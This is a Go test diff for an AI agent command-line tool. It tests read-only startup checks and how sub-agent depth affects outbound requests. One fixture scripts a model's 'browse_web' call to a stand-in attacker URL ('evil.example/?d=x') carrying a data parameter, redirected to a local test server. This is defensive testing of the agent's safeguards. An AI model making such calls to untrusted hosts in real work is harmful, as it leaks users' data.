@@ -3,6 +3,9 @@ package main
 import (
 	"bytes"
 	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"slices"
@@ -99,7 +102,7 @@ func TestFindingR6NothingIsWrittenReadOnly(t *testing.T) {
 
 func TestFindingR15NonsenseInReadOnlyEndsTheStart(t *testing.T) {
 	t.Parallel()
-	for _, args := range [][]string{{"--non-interactive", "-p", "go"}, {"tool", "tree"}, {"rpc"}, {"batch", "jobs.jsonl"}} {
+	for _, args := range [][]string{{"--non-interactive", "-p", "go"}, {"tool", "tree"}, {"rpc"}, {"batch", "jobs.jsonl"}, {"mcp", "serve"}, {"worker", "--fleet", "nats://127.0.0.1:1"}} {
 		command := process(t, func(modeltest.Request) modeltest.Step { return modeltest.Text("answered") })
 		command.Args = append([]string{"marvin"}, args...)
 		command.Env = append(command.Env, "MARVIN_READONLY=ture", "LLM_PROVIDER=openai-compat")
@@ -138,6 +141,32 @@ func TestFindingR7TheDepthReachesACommand(t *testing.T) {
 			t.Errorf("MARVIN_DEPTH=%q: %s", depth, told)
 		}
 		if deep := want != "1"; strings.Count(told, "(MARVIN_DEPTH)") != map[bool]int{true: 2}[deep] {
+			t.Errorf("MARVIN_DEPTH=%q: %s", depth, told)
+		}
+	}
+}
+
+// The prompt of a Marvin that another one started is a model's: it names no host. Both ways
+// in which the depth counts read the variable alike.
+func TestFindingR7ThePromptOfADeepMarvinNamesNoHost(t *testing.T) {
+	t.Parallel()
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "arrived") }))
+	defer evil.Close()
+	for depth, arrives := range map[string]bool{"": true, " 0 ": true, "-1": true, "1": false, "2": false, "nonsense": false} {
+		told := ""
+		command := process(t, func(request modeltest.Request) modeltest.Step {
+			if last := request.Last(); last.Role == messages.Tool {
+				told = last.Result.Text
+				return modeltest.Text("done")
+			}
+			return modeltest.Calls(modeltest.Call{Name: "browse_web", Args: map[string]string{"url": "https://evil.example/?d=x"}})
+		}, "-p", "ask evil.example")
+		command.Env = append(command.Env, "MARVIN_DEPTH="+depth, "MARVIN_HOSTS=evil.example="+evil.URL)
+		if out, err := command.CombinedOutput(); err != nil {
+			t.Fatalf("%v\n%s", err, out)
+		}
+		// What is read before the call taints the conversation; here the depth alone does.
+		if deep := strings.Contains(told, "the Marvin that started this one"); deep == arrives || strings.Contains(told, "arrived") != arrives {
 			t.Errorf("MARVIN_DEPTH=%q: %s", depth, told)
 		}
 	}
